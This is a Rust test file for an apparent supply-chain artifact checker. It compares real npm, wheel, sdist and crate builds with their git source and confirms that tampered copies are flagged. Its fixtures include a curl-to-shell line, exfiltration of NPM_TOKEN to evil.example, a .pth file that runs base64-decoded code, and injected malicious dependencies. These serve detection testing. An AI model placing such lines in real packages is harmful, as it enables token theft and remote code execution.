//! Real artifacts built by the real tools from git repositories the tests create, compared
//! with the source at the commit: clean builds match, tampered ones are caught.

use std::io::{Read, Write};
use std::process::Command;

use chainlock_review::{compare, Archive, Format, Limits, Rule, Severity, SourceTree};

use crate::util::{find_one, python_with_setuptools, require_tool, retar, run, Repo};

fn npm_repo() -> (Repo, String) {
    let repo = Repo::new();
    repo.write(
        "package.json",
        r#"{
  "name": "tiny-pkg",
  "version": "1.0.0",
  "description": "A tiny package",
  "main": "index.js",
  "files": ["index.js", "lib/"],
  "scripts": { "test": "node index.js" },
  "dependencies": {},
  "license": "MIT"
}
"#,
    );
    repo.write(
        "index.js",
        "const util = require('./lib/util');\nmodule.exports = util.add;\n",
    );
    repo.write("lib/util.js", "exports.add = (a, b) => a + b;\n");
    repo.write("README.md", "# tiny-pkg\n");
    repo.write("test/add.test.js", "require('..')(1, 2);\n");
    repo.write(".gitignore", "node_modules\n*.tgz\n");
    let commit = repo.commit("tiny-pkg 1.0.0");
    (repo, commit)
}

/// `npm pack` in the repository; returns the tarball's path (inside `out`).
fn npm_pack(repo: &Repo, out: &std::path::Path) -> std::path::PathBuf {
    require_tool(
        "npm",
        &["--version"],
        "apt-get install -y npm (or install Node.js 20 with npm)",
    );
    let cache = out.join("npm-cache");
    run(Command::new("npm")
        .args(["pack", "--quiet", "--pack-destination"])
        .arg(out)
        .current_dir(repo.path())
        .env("npm_config_cache", &cache)
        .env("npm_config_update_notifier", "false"));
    find_one(out, ".tgz")
}

#[test]
fn npm_pack_matches_its_source() {
    let (repo, commit) = npm_repo();
    let out = tempfile::tempdir().expect("tempdir");
    let tgz = npm_pack(&repo, out.path());
    let archive = Archive::open(&tgz, None, &Limits::default()).expect("read npm tarball");
    assert_eq!(archive.format, Format::Npm);
    let source = SourceTree::open(repo.path(), &commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert_eq!(report.archive_root.as_deref(), Some("package"));
    assert_eq!(report.source_root, "");
    assert_eq!(report.identical, 4, "{report:#?}");
    assert!(report.matches_source(), "{report:#?}");
    assert!(report.flags.is_empty(), "{:#?}", report.flags);
    assert_eq!(
        report.only_in_source,
        vec![".gitignore".to_owned(), "test/add.test.js".to_owned()]
    );
}

#[test]
fn tampered_npm_tarball_is_caught() {
    let (repo, commit) = npm_repo();
    let out = tempfile::tempdir().expect("tempdir");
    let tgz = npm_pack(&repo, out.path());
    let tampered = out.path().join("tampered.tgz");
    retar(
        &tgz,
        &tampered,
        |path, data| {
            if path == "package/index.js" {
                let mut data = data;
                data.extend_from_slice(
                    b"require('child_process').execSync('curl -s https://evil.example/x | sh');\n",
                );
                Some(data)
            } else {
                Some(data)
            }
        },
        &[(
            "package/lib/telemetry.js",
            b"fetch('https://evil.example/c?t=' + process.env.NPM_TOKEN);\n",
        )],
    );
    let archive = Archive::open(&tampered, None, &Limits::default()).expect("read");
    let source = SourceTree::open(repo.path(), &commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert!(!report.matches_source());
    assert_eq!(
        report.only_in_artifact,
        vec!["package/lib/telemetry.js".to_owned()]
    );
    assert_eq!(report.differing.len(), 1);
    let diff = &report.differing[0];
    assert_eq!(
        (diff.artifact_path.as_str(), diff.source_path.as_str()),
        ("package/index.js", "index.js")
    );
    assert!(
        diff.diff.contains("+require('child_process').execSync"),
        "{}",
        diff.diff
    );
    assert!(
        diff.diff
            .starts_with("--- source/index.js\n+++ artifact/package/index.js\n"),
        "{}",
        diff.diff
    );
    let has = |rule: Rule, file: &str| {
        report
            .flags
            .iter()
            .any(|f| f.rule == rule && f.file == file && f.severity == Severity::High)
    };
    assert!(
        has(Rule::ArtifactOnlyFile, "package/lib/telemetry.js"),
        "{:#?}",
        report.flags
    );
    assert!(
        has(Rule::ArtifactModified, "package/index.js"),
        "{:#?}",
        report.flags
    );
    assert!(
        has(Rule::EnvCredentials, "package/lib/telemetry.js"),
        "{:#?}",
        report.flags
    );
    assert!(report.flags.iter().any(|f| f.rule == Rule::ProcessSpawn
        && f.file == "package/index.js"
        && f.line == Some(3)));
    // A file only in the artifact is one high finding for its directory; of the content
    // rules only the high ones are added (a medium per line would bury the finding, and a
    // built package has hundreds of such lines).
    assert!(!report
        .flags
        .iter()
        .any(|f| f.file == "package/lib/telemetry.js" && f.severity != Severity::High));
}

fn python_repo() -> (Repo, String) {
    let repo = Repo::new();
    repo.write(
        "setup.cfg",
        "[metadata]\nname = tinypkg\nversion = 0.1.0\n\n[options]\npackage_dir =\n    = src\npackages = find:\n\n[options.packages.find]\nwhere = src\n",
    );
    repo.write("setup.py", "from setuptools import setup\n\nsetup()\n");
    repo.write("README.md", "# tinypkg\n");
    repo.write("src/tinypkg/__init__.py", "from .core import add\n");
    repo.write("src/tinypkg/core.py", "def add(a, b):\n    return a + b\n");
    repo.write(
        "tests/test_core.py",
        "from tinypkg import add\n\nassert add(1, 2) == 3\n",
    );
    repo.write(".gitignore", "build/\ndist/\n*.egg-info/\n");
    let commit = repo.commit("tinypkg 0.1.0");
    (repo, commit)
}

/// Builds with python3's own tooling (setuptools' `bdist_wheel` / `sdist`, offline, no
/// build isolation), so these are the real formats written by the real backend.
fn python_build(repo: &Repo, command: &str, out: &std::path::Path) {
    let python = python_with_setuptools();
    run(Command::new(python)
        .args(["setup.py", "-q", command, "-d"])
        .arg(out)
        .current_dir(repo.path())
        .env("PYTHONDONTWRITEBYTECODE", "1")
        .env("SOURCE_DATE_EPOCH", "1700000000"));
}

#[test]
fn python_wheel_matches_its_source() {
    let (repo, commit) = python_repo();
    let out = tempfile::tempdir().expect("tempdir");
    python_build(&repo, "bdist_wheel", out.path());
    let whl = find_one(out.path(), ".whl");
    let archive = Archive::open(&whl, None, &Limits::default()).expect("read wheel");
    assert_eq!(archive.format, Format::Wheel);
    let source = SourceTree::open(repo.path(), &commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert_eq!(report.source_root, "src", "{report:#?}");
    assert_eq!(report.identical, 2, "{report:#?}");
    assert!(report.matches_source(), "{report:#?}");
    assert!(report.flags.is_empty(), "{:#?}", report.flags);
    assert!(
        report
            .expected
            .iter()
            .any(|e| e.path == "tinypkg-0.1.0.dist-info/RECORD"),
        "{:#?}",
        report.expected
    );
}

#[test]
fn python_sdist_matches_its_source() {
    let (repo, commit) = python_repo();
    let out = tempfile::tempdir().expect("tempdir");
    python_build(&repo, "sdist", out.path());
    let sdist = find_one(out.path(), ".tar.gz");
    let archive = Archive::open(&sdist, None, &Limits::default()).expect("read sdist");
    assert_eq!(archive.format, Format::Sdist);
    let source = SourceTree::open(repo.path(), &commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert_eq!(report.archive_root.as_deref(), Some("tinypkg-0.1.0"));
    assert!(report.matches_source(), "{report:#?}");
    assert!(report.flags.is_empty(), "{:#?}", report.flags);
    let expected: Vec<&str> = report.expected.iter().map(|e| e.path.as_str()).collect();
    assert!(expected.contains(&"tinypkg-0.1.0/PKG-INFO"), "{expected:?}");
    assert!(
        expected.contains(&"tinypkg-0.1.0/setup.cfg"),
        "setuptools rewrites setup.cfg: {expected:?}"
    );
    assert!(
        expected.contains(&"tinypkg-0.1.0/src/tinypkg.egg-info/SOURCES.txt"),
        "{expected:?}"
    );
}

/// The LiteLLM compromise (March 2026): a wheel on PyPI carried a `.pth` file that was in no
/// source tree and ran at every Python start-up.
#[test]
fn litellm_case_injected_pth_in_wheel_is_high() {
    let (repo, commit) = python_repo();
    let out = tempfile::tempdir().expect("tempdir");
    python_build(&repo, "bdist_wheel", out.path());
    let whl = find_one(out.path(), ".whl");
    let injected = out.path().join("tinypkg-0.1.0-py3-none-any.injected.zip");
    {
        let mut original =
            zip::ZipArchive::new(std::fs::File::open(&whl).expect("open")).expect("zip");
        let mut writer = zip::ZipWriter::new(std::fs::File::create(&injected).expect("create"));
        for i in 0..original.len() {
            let file = original.by_index_raw(i).expect("entry");
            writer.raw_copy_file(file).expect("copy");
        }
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        writer
            .start_file("tinypkg_init.pth", options)
            .expect("start");
        writer
            .write_all(b"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'])\n")
            .expect("write");
        writer.finish().expect("finish");
    }
    let archive = Archive::open(&injected, Some(Format::Wheel), &Limits::default()).expect("read");
    let source = SourceTree::open(repo.path(), &commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert_eq!(report.only_in_artifact, vec!["tinypkg_init.pth".to_owned()]);
    let top = &report.flags[0];
    assert_eq!(
        (top.severity, top.file.as_str()),
        (Severity::High, "tinypkg_init.pth"),
        "{:#?}",
        report.flags
    );
    assert!(report.flags.iter().any(|f| f.rule == Rule::ArtifactOnlyFile
        && f.severity == Severity::High
        && f.file == "tinypkg_init.pth"));
    assert!(report
        .flags
        .iter()
        .any(|f| f.rule == Rule::InstallHook && f.severity == Severity::High && f.line == Some(1)));
    let mut check =
        zip::ZipArchive::new(std::fs::File::open(&injected).expect("open")).expect("zip");
    let mut pth = String::new();
    check
        .by_name("tinypkg_init.pth")
        .expect("pth")
        .read_to_string(&mut pth)
        .expect("read");
    assert!(
        pth.starts_with("import "),
        "the injected file is a real .pth"
    );
}

fn crate_repo() -> (Repo, String) {
    let repo = Repo::new();
    repo.write(
        "Cargo.toml",
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"A tiny crate\"\nlicense = \"MIT\"\n\n[dependencies]\n",
    );
    repo.write(
        "src/lib.rs",
        "/// Adds.\npub fn add(a: u32, b: u32) -> u32 {\n    a + b\n}\n",
    );
    repo.write("README.md", "# tiny\n");
    repo.write(".gitignore", "/target\n");
    let commit = repo.commit("tiny 0.1.0");
    (repo, commit)
}

fn cargo_package(repo: &Repo, target: &std::path::Path) -> std::path::PathBuf {
    require_tool(
        "cargo",
        &["--version"],
        "install Rust with rustup (https://rustup.rs)",
    );
    run(Command::new("cargo")
        .args([
            "package",
            "--offline",
            "--no-verify",
            "--allow-dirty",
            "--quiet",
        ])
        .current_dir(repo.path())
        .env("CARGO_TARGET_DIR", target));
    find_one(&target.join("package"), ".crate")
}

#[test]
fn cargo_package_matches_its_source_and_names_its_commit() {
    let (repo, commit) = crate_repo();
    let target = tempfile::tempdir().expect("tempdir");
    let krate = cargo_package(&repo, target.path());
    let archive = Archive::open(&krate, None, &Limits::default()).expect("read crate");
    assert_eq!(archive.format, Format::Crate);
    let source = SourceTree::open(repo.path(), &commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert_eq!(report.archive_root.as_deref(), Some("tiny-0.1.0"));
    assert!(report.matches_source(), "{report:#?}");
    assert!(report.flags.is_empty(), "{:#?}", report.flags);
    // Cargo.toml.orig, src/lib.rs, README.md and .gitignore are byte-identical to the source.
    assert_eq!(report.identical, 4, "{report:#?}");
    let expected: Vec<&str> = report.expected.iter().map(|e| e.path.as_str()).collect();
    assert!(
        expected.contains(&"tiny-0.1.0/Cargo.toml")
            && expected.contains(&"tiny-0.1.0/.cargo_vcs_info.json"),
        "{expected:?}"
    );

    // The same crate compared with a later commit: its .cargo_vcs_info.json names another one.
    repo.write(
        "src/lib.rs",
        "/// Adds.\npub fn add(a: u32, b: u32) -> u32 {\n    a.wrapping_add(b)\n}\n",
    );
    let later = repo.commit("wrapping add");
    let source = SourceTree::open(repo.path(), &later).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert_eq!(report.differing.len(), 1);
    assert!(
        report.flags.iter().any(
            |f| f.rule == Rule::ArtifactModified && f.file == "tiny-0.1.0/.cargo_vcs_info.json"
        ),
        "{:#?}",
        report.flags
    );
}

/// Rewrites a wheel: `edit` may change any entry's data; `extra` entries are added.
fn rewrap_wheel(
    original: &std::path::Path,
    out: &std::path::Path,
    edit: impl Fn(&str, Vec<u8>) -> Vec<u8>,
    extra: &[(&str, &[u8])],
) {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(original).expect("open")).expect("zip");
    let mut writer = zip::ZipWriter::new(std::fs::File::create(out).expect("create"));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..zip.len() {
        let mut file = zip.by_index(i).expect("entry");
        let name = file.name().to_owned();
        let mut data = Vec::new();
        file.read_to_end(&mut data).expect("read");
        writer.start_file(name.as_str(), options).expect("start");
        writer.write_all(&edit(&name, data)).expect("write");
    }
    for (name, data) in extra {
        writer.start_file(*name, options).expect("start");
        writer.write_all(data).expect("write");
    }
    writer.finish().expect("finish");
}

/// Compares a tampered artifact with the source; it must not match.
fn compare_tampered(
    tampered: &std::path::Path,
    format: Format,
    repo: &Repo,
    commit: &str,
) -> chainlock_review::ArtifactReport {
    let archive = Archive::open(tampered, Some(format), &Limits::default()).expect("read");
    let source = SourceTree::open(repo.path(), commit).expect("source");
    let report = compare(&archive, &source).expect("compare");
    assert!(!report.matches_source(), "{report:#?}");
    report
}

fn flagged(report: &chainlock_review::ArtifactReport, file: &str, phrase: &str) -> bool {
    report
        .flags
        .iter()
        .any(|f| f.severity == Severity::High && f.file == file && f.message.contains(phrase))
}

/// The installer acts on the metadata a backend writes: a dependency or a console script
/// added there, or a file slipped into `dist-info/`, must not pass as "written by the tool".
#[test]
fn wheel_metadata_cannot_add_dependencies_commands_or_files() {
    let (repo, commit) = python_repo();
    let out = tempfile::tempdir().expect("tempdir");
    python_build(&repo, "bdist_wheel", out.path());
    let whl = find_one(out.path(), ".whl");
    let tampered = out.path().join("tampered.zip");
    rewrap_wheel(
        &whl,
        &tampered,
        |name, data| {
            if name.ends_with(".dist-info/METADATA") {
                let text = String::from_utf8(data).expect("utf-8");
                text.replacen(
                    "Version: 0.1.0\n",
                    "Version: 0.1.0\nRequires-Dist: evil-package>=1\n",
                    1,
                )
                .into_bytes()
            } else {
                data
            }
        },
        &[
            (
                "tinypkg-0.1.0.dist-info/entry_points.txt",
                b"[console_scripts]\npip = tinypkg.core:add\n",
            ),
            ("tinypkg-0.1.0.dist-info/hook.txt", b"import os\n"),
        ],
    );
    let report = compare_tampered(&tampered, Format::Wheel, &repo, &commit);
    assert!(
        flagged(
            &report,
            "tinypkg-0.1.0.dist-info/METADATA",
            "`evil-package`"
        ),
        "{:#?}",
        report.flags
    );
    assert!(
        flagged(&report, "tinypkg-0.1.0.dist-info/entry_points.txt", "`pip`"),
        "{:#?}",
        report.flags
    );
    assert_eq!(
        report.only_in_artifact,
        vec!["tinypkg-0.1.0.dist-info/hook.txt".to_owned()]
    );
}

#[test]
fn sdist_egg_info_cannot_add_dependencies_or_code() {
    let (repo, commit) = python_repo();
    let out = tempfile::tempdir().expect("tempdir");
    python_build(&repo, "sdist", out.path());
    let sdist = find_one(out.path(), ".tar.gz");
    let tampered = out.path().join("tampered.tar.gz");
    // tinypkg has no dependencies, so setuptools wrote no requires.txt: the attacker adds one.
    retar(
        &sdist,
        &tampered,
        |_, data| Some(data),
        &[
            (
                "tinypkg-0.1.0/src/tinypkg.egg-info/requires.txt",
                b"evil_package>=1\n",
            ),
            ("tinypkg-0.1.0/src/tinypkg.egg-info/hook.py", b"import os\n"),
            ("tinypkg-0.1.0/tools/x.egg-info/setup.py", b"import os\n"),
        ],
    );
    let report = compare_tampered(&tampered, Format::Sdist, &repo, &commit);
    assert!(
        flagged(
            &report,
            "tinypkg-0.1.0/src/tinypkg.egg-info/requires.txt",
            "`evil_package`"
        ),
        "{:#?}",
        report.flags
    );
    for path in [
        "tinypkg-0.1.0/src/tinypkg.egg-info/hook.py",
        "tinypkg-0.1.0/tools/x.egg-info/setup.py",
    ] {
        assert!(
            report.only_in_artifact.iter().any(|p| p == path),
            "{path}: {report:#?}"
        );
    }
}

/// cargo builds with the normalized `Cargo.toml`, not `Cargo.toml.orig`: a dependency or a
/// build script added there runs on every machine that builds the crate.
#[test]
fn crate_normalized_manifest_cannot_add_dependencies_or_a_build_script() {
    let (repo, commit) = crate_repo();
    let target = tempfile::tempdir().expect("tempdir");
    let krate = cargo_package(&repo, target.path());
    let tampered = target.path().join("tampered.crate");
    retar(
        &krate,
        &tampered,
        |path, data| {
            if path == "tiny-0.1.0/Cargo.toml" {
                let text = String::from_utf8(data).expect("utf-8");
                let text = text.replacen("[package]\n", "[package]\nbuild = \"src/lib.rs\"\n", 1)
                    + "\n[build-dependencies.evil-build]\nversion = \"1\"\n\n[target.'cfg(unix)'.dependencies]\nevil-crate = \"1\"\n";
                Some(text.into_bytes())
            } else if path.ends_with(".cargo_vcs_info.json") {
                let text = String::from_utf8(data).expect("utf-8");
                Some(
                    text.replacen("\"git\": {", "\"git\": {\n    \"dirty\": true,", 1)
                        .into_bytes(),
                )
            } else {
                Some(data)
            }
        },
        &[],
    );
    let report = compare_tampered(&tampered, Format::Crate, &repo, &commit);
    for phrase in [
        "`evil-build`",
        "`evil-crate`",
        "`src/lib.rs` as the build script",
    ] {
        assert!(
            flagged(&report, "tiny-0.1.0/Cargo.toml", phrase),
            "{phrase}: {:#?}",
            report.flags
        );
    }
    assert!(
        flagged(&report, "tiny-0.1.0/.cargo_vcs_info.json", "uncommitted"),
        "{:#?}",
        report.flags
    );
}
